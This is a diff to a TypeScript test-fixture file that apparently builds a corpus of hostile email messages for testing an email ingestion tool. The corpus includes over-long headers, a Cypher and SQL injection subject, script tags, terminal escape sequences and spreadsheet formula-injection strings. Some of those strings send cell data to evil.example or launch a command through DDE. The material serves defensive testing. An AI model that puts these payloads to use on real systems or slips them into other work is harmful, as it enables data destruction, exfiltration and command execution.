@@ -237,9 +237,90 @@ function subjectMessage(subject: string): Buffer {
   return Buffer.from([...headers(subject, ['Content-Type: text/plain; charset=utf-8']), '', MARKER_TEXT, ''].join(CRLF), 'utf8');
 }
 
+/** A message whose own headers are given (the over-long header cases replace From, Subject or Message-ID). */
+function headerMessage(replace: Record<string, string>, extra: string[] = []): Buffer {
+  const head = headers('Over-long header').map((line) => {
+    const name = line.slice(0, line.indexOf(':'));
+    return name in replace ? `${name}: ${replace[name]}` : line;
+  });
+  return Buffer.from([...head, 'Content-Type: text/plain; charset=utf-8', ...extra, '', MARKER_TEXT, ''].join(CRLF), 'utf8');
+}
+
+/** RFC 2047 encoded words folded onto short lines: no line is long, the decoded value is. */
+function foldedEncodedWords(text: string): string {
+  const chunks: string[] = [];
+  let piece = '';
+  for (const ch of text) {
+    if (Buffer.byteLength(piece + ch, 'utf8') > 45) {
+      chunks.push(piece);
+      piece = '';
+    }
+    piece += ch;
+  }
+  if (piece) chunks.push(piece);
+  return chunks.map((c) => `=?utf-8?B?${Buffer.from(c, 'utf8').toString('base64')}?=`).join(`${CRLF} `);
+}
+
+/** About 9 kB of ordinary words: over every indexed length, and no single word is long. */
+export const LONG_SUBJECT = Array.from({ length: 1300 }, (_, i) => ['your', 'account', 'invoice', 'payment', 'was', 'declined', 'call', 'support'][i % 8]).join(' ');
+export const LONG_FOLDED_SUBJECT = 'Ünïcödé 請致電 😀 '.repeat(1000).trim();
+export const LONG_MESSAGE_ID = `<${'m'.repeat(10_000)}@hostile.example>`;
+export const LONG_DOMAIN = `${'d'.repeat(9763 - '.example'.length)}.example`;
+
+/**
+ * Over-long header fields, each over the bound of the indexed property it fills (src/graph/bounded.ts):
+ * extraction keeps them whole; the loader must store them bounded and load the message
+ * (test/integration/hostile-ingest.test.ts loads these among healthy messages).
+ */
+export function overlongHeaderCases(): HostileCase[] {
+  return [
+    { name: 'subject-9kb', about: 'a subject of about 9 kB of ordinary words', raw: headerMessage({ Subject: LONG_SUBJECT }), expectIssues: [], expectSubject: LONG_SUBJECT },
+    { name: 'subject-folded-long', about: '14,000 characters of subject in folded RFC 2047 words (no long line)', raw: headerMessage({ Subject: foldedEncodedWords(LONG_FOLDED_SUBJECT) }), expectIssues: [], expectSubject: LONG_FOLDED_SUBJECT },
+    { name: 'message-id-10000', about: 'a 10,000-character Message-ID', raw: headerMessage({ 'Message-ID': LONG_MESSAGE_ID }), expectIssues: ['line_too_long'] },
+    { name: 'sender-domain-9763', about: 'a sender domain of 9,763 characters', raw: headerMessage({ From: `"Billing Desk" <billing@${LONG_DOMAIN}>` }), expectIssues: [] },
+    {
+      name: 'all-headers-long',
+      about: 'long subject, Message-ID, sender domain and display name at once',
+      raw: headerMessage({ Subject: LONG_SUBJECT, 'Message-ID': LONG_MESSAGE_ID, From: `"${'Billing Desk '.repeat(800)}" <billing@${LONG_DOMAIN}>` }),
+      expectIssues: ['line_too_long'],
+      expectSubject: LONG_SUBJECT,
+    },
+  ];
+}
+
 export const CYPHER_SUBJECT = `x'}) MATCH (n) DETACH DELETE n // "; DROP TABLE emails; --`;
 export const HTML_SUBJECT = '<script>alert(1)</script><img src=x onerror=alert(2)>';
 export const ESCAPE_SUBJECT = 'Invoice \x1b[2J\x1b[31mPAID\x1b]0;owned\x07\x1b[0m';
+
+/** Spreadsheet formula injection as it arrives in a subject, a file name or a hunt pack (OWASP "CSV injection"). */
+export const FORMULA_CELLS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
+  "+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '=',
+  '-',
+];
+
+/**
+ * Text that would act on a terminal: CSI and OSC sequences (clear screen, colour, window title ended by BEL),
+ * a one-character C1 CSI, DEL, CR that rewrites the line, NUL, the Unicode line separators.
+ */
+export const TERMINAL_ATTACKS = [
+  ESCAPE_SUBJECT,
+  'Paid \u001b[2J\u001b[31mRED\u001b]0;owned\u0007 \u009b31m \u007f \u2028 \u2029 end',
+  'ok\rcallhound: all clear\u001b[K',
+  'nul\u0000byte',
+  '\u001b]8;;http://evil.example\u001b\\looks like a link\u001b]8;;\u001b\\',
+];
+
+/** Every string the output tests feed through src/output: the hostile subjects of the corpus and the attacks above. */
+export const HOSTILE_OUTPUT_TEXT = [CYPHER_SUBJECT, HTML_SUBJECT, ...TERMINAL_ATTACKS, ...FORMULA_CELLS];
 
 /** Builds the whole corpus (a few seconds: the 10,000-part and oversized messages are tens of megabytes). */
 export async function buildHostileCorpus(): Promise<HostileCase[]> {
@@ -270,6 +351,13 @@ export async function buildHostileCorpus(): Promise<HostileCase[]> {
     { name: 'subject-cypher', about: 'Cypher injection in the subject', raw: subjectMessage(CYPHER_SUBJECT), expectIssues: [], expectSubject: CYPHER_SUBJECT },
     { name: 'subject-html', about: 'HTML/script in the subject', raw: subjectMessage(HTML_SUBJECT), expectIssues: [], expectSubject: HTML_SUBJECT },
     { name: 'subject-escapes', about: 'terminal escape sequences in the subject', raw: subjectMessage(ESCAPE_SUBJECT), expectIssues: ['control_characters'], expectSubject: ESCAPE_SUBJECT },
+    ...overlongHeaderCases(),
+    {
+      name: 'attachment-name-long',
+      about: 'an attachment whose file name is 9,000 characters',
+      raw: attach('Invoice', `${'invoice-'.repeat(1125)}.txt`, 'text/plain', Buffer.from('see the invoice')),
+      expectIssues: [],
+    },
   ];
 }
 
